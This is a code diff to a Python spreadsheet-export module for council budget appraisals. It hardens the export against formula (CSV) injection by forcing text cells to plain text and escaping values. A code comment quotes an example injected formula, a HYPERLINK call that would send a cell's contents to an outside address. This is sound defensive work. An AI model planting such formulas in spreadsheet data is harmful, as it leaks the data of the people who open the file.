@@ -112,8 +112,35 @@ def workbook_contents(*, appraisal: Appraisal, blank_rows: bool = False) -> dict
     return rows
 
 
+# Text beginning with one of these is run by Excel (or a program it hands the file to) as a formula if it is in a
+# formula cell, e.g. a service renamed =HYPERLINK("http://…?d="&C2,"Click") (issue 13; OWASP, "CSV injection").
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _append(ws, values: list) -> None:
+    """ws.append, with every text cell written as text (data type "s"), never as a formula: openpyxl makes a formula
+    of any text beginning "=" (and an error cell of "#N/A"). Text that would start a formula also gets Excel's quote
+    prefix, as if typed with an apostrophe, so it stays text when someone edits the cell. The text is unchanged."""
+    ws.append(values)
+    row = ws.max_row
+    for column, value in enumerate(values, start=1):
+        if value.__class__ is str and value:
+            cell = ws.cell(row, column)
+            if "\r" in value or "_x" in value:
+                cell.value = _excel_escape(value)
+            cell.data_type = "s"
+            if value.startswith(FORMULA_START):
+                cell.quotePrefix = True
+
+
+def _excel_escape(text: str) -> str:
+    """A carriage return as Excel writes one, _x000D_ (XML would read it back as a line feed), and an underscore that
+    would begin such an escape as _x005F_; Excel (and reader.py) read the text back unchanged."""
+    return text.replace("_x", "_x005F_x").replace("\r", "_x000D_")
+
+
 def _header(ws, names: list[str]) -> None:
-    ws.append(names)
+    _append(ws, names)
     for cell in ws[1]:
         cell.font = BOLD
         cell.fill = HEADER_FILL
@@ -201,7 +228,7 @@ def _data_sheet(wb: Workbook, sheet: contract.Sheet, rows: list[list], council_c
     ws = wb.create_sheet(sheet.name)
     _header(ws, rows[0])
     for row in rows[1:]:
-        ws.append(row)
+        _append(ws, row)
     for i, column in enumerate(sheet.columns, start=1):
         letter = get_column_letter(i)
         ws.column_dimensions[letter].width = column.width
@@ -250,7 +277,7 @@ def _instructions(wb: Workbook, *, index: int | None = None) -> None:
     lines.append(("", ""))
     lines.append(("", "The format is described in full in docs/workbook.md of Appraise."))
     for first, second in lines:
-        ws.append([first, second])
+        _append(ws, [first, second])
         ws.cell(ws.max_row, 2).alignment = Alignment(wrap_text=True, vertical="top")
     ws["A1"].font = Font(bold=True, size=14)
     for cell in ws["A"]:
@@ -268,23 +295,25 @@ def _pct(value: Fraction | None):
 
 def _summary(wb: Workbook, appraisal: Appraisal) -> None:
     ws = wb.create_sheet(contract.SUMMARY, 0)
-    ws.append([appraisal.title])
+    _append(ws, [appraisal.title])
     ws["A1"].font = Font(bold=True, size=14)
-    ws.append(
-        [f"Baseline budgets {appraisal.base_year_label}; funding deficit forecast for {appraisal.deficit_year_label}"]
+    _append(
+        ws,
+        [f"Baseline budgets {appraisal.base_year_label}; funding deficit forecast for {appraisal.deficit_year_label}"],
     )
-    ws.append([])
+    _append(ws, [])
     try:
         figures = appraisal_figures(appraisal=appraisal)
     except CalculationError as exc:
-        ws.append([f"The summary cannot be calculated: {exc}"])
+        _append(ws, [f"The summary cannot be calculated: {exc}"])
         return
     s = figures.summary
     headers = ["Service cluster", "Combined net budget", "% of total", "Min saving", "Max saving", "Min %", "Max %"]
     header_row = _header_row(ws, headers)
     ws.freeze_panes = f"A{header_row + 1}"
     for c in s.clusters:
-        ws.append(
+        _append(
+            ws,
             [
                 c.name,
                 c.net_budget,
@@ -293,11 +322,12 @@ def _summary(wb: Workbook, appraisal: Appraisal) -> None:
                 c.max_saving,
                 _pct(c.min_saving_pct) if c.has_range else None,
                 _pct(c.max_saving_pct) if c.has_range else None,
-            ]
+            ],
         )
         _formats(ws, ws.max_row, "-m%mm%%")
     t = s.totals
-    ws.append(
+    _append(
+        ws,
         [
             "Totals",
             t.net_budget,
@@ -306,27 +336,26 @@ def _summary(wb: Workbook, appraisal: Appraisal) -> None:
             t.max_saving,
             _pct(t.min_saving_pct),
             _pct(t.max_saving_pct),
-        ]
+        ],
     )
     _formats(ws, ws.max_row, "-m%mm%%", bold=True)
-    ws.append([])
-    ws.append(
-        ["In-scope net budget", t.in_scope_net_budget, None, None, None, _pct(t.in_scope_min_saving_pct),
-         _pct(t.in_scope_max_saving_pct)]
-    )  # fmt: skip
+    _append(ws, [])
+    in_scope = [_pct(t.in_scope_min_saving_pct), _pct(t.in_scope_max_saving_pct)]
+    _append(ws, ["In-scope net budget", t.in_scope_net_budget, None, None, None, *in_scope])
     _formats(ws, ws.max_row, "-m---%%")
     d = s.deficit
-    ws.append([f"Combined funding deficit {appraisal.deficit_year_label}", d.amount, _pct(d.pct_of_net_budget)])
+    _append(ws, [f"Combined funding deficit {appraisal.deficit_year_label}", d.amount, _pct(d.pct_of_net_budget)])
     _formats(ws, ws.max_row, "-m%")
-    ws.append(["Share of the deficit closed by the savings", None, None, None, None, _pct(d.min_closed_pct),
-               _pct(d.max_closed_pct)])  # fmt: skip
+    closed = [_pct(d.min_closed_pct), _pct(d.max_closed_pct)]
+    _append(ws, ["Share of the deficit closed by the savings", None, None, None, None, *closed])
     _formats(ws, ws.max_row, "-----%%")
-    ws.append(["Deficit left after the savings", None, None, d.min_gap, d.max_gap])
+    _append(ws, ["Deficit left after the savings", None, None, d.min_gap, d.max_gap])
     _formats(ws, ws.max_row, "---mm", bold=True)
-    ws.append([])
+    _append(ws, [])
     _header_row(ws, ["Council", "Net budget", "Deficit", "Min saving", "Max saving", "Min closed", "Max closed"])
     for c in s.councils:
-        ws.append(
+        _append(
+            ws,
             [
                 f"{c.name} ({c.code})",
                 c.net_budget,
@@ -335,15 +364,15 @@ def _summary(wb: Workbook, appraisal: Appraisal) -> None:
                 c.max_saving,
                 _pct(c.against_deficit.min_closed_pct),
                 _pct(c.against_deficit.max_closed_pct),
-            ]
+            ],
         )
         _formats(ws, ws.max_row, "-mmpp%%")  # a council's share of a saving is split to the penny
     if s.warnings:
-        ws.append([])
+        _append(ws, [])
         for warning in s.warnings:
-            ws.append([f"Warning: {warning}"])
-    ws.append([])
-    ws.append(["Savings are shared pro rata to each council's net budget in each cluster (seed 001 §2.4)."])
+            _append(ws, [f"Warning: {warning}"])
+    _append(ws, [])
+    _append(ws, ["Savings are shared pro rata to each council's net budget in each cluster (seed 001 §2.4)."])
     ws.column_dimensions["A"].width = max(48, *(len(c.name) + 2 for c in s.clusters))
     for letter in "BCDEFG":
         ws.column_dimensions[letter].width = 18
@@ -351,7 +380,7 @@ def _summary(wb: Workbook, appraisal: Appraisal) -> None:
 
 def _header_row(ws, names: list[str]) -> int:
     """Append a bold header row (figures' headers right-aligned over their numbers); returns its number."""
-    ws.append(names)
+    _append(ws, names)
     row = ws.max_row  # the row just appended: blank rows appended before it do not count in max_row
     for i in range(1, len(names) + 1):
         cell = ws.cell(row, i)
